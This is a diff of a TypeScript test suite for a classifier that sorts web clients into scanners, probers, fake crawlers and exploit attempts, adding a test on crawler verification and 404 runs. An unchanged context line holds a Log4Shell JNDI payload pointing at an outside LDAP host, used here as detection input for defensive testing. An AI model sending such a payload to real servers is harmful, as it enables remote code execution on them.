@@ -195,6 +195,18 @@ describe('verdicts on realistic clients', () => {
     expect(verdictOf([get('/', 200, censys)])).toBe('scanner');
   });
 
+  it('gives no verdict to a verified crawler following a dozen dead links, and calls anyone else doing so probing', () => {
+    const dead = (extra: Partial<RequestFacts>) =>
+      Array.from({ length: 12 }, (_, i) => get(`/blog/moved-post-${i}`, 404, extra));
+    expect(verdictOf(dead({ userAgent: GOOGLEBOT, ip: '66.249.66.1' }))).toBeUndefined();
+    expect(verdictOf(dead({}))).toBe('probing');
+    // A crawler whose address cannot be checked is anyone who wrote a bot's name.
+    const ahrefs = 'Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)';
+    expect(verdictOf(dead({ userAgent: ahrefs }))).toBe('probing');
+    // A Googlebot from elsewhere is an impostor: it is called so at once, whatever it asks for.
+    expect(verdictOf(dead({ userAgent: GOOGLEBOT }))).toBe('fake-crawler');
+  });
+
   it('calls one Log4Shell attempt an exploit', () => {
     expect(verdictOf([get('/?x=${jndi:ldap://198.51.100.9/a}', 200)])).toBe('exploit');
   });
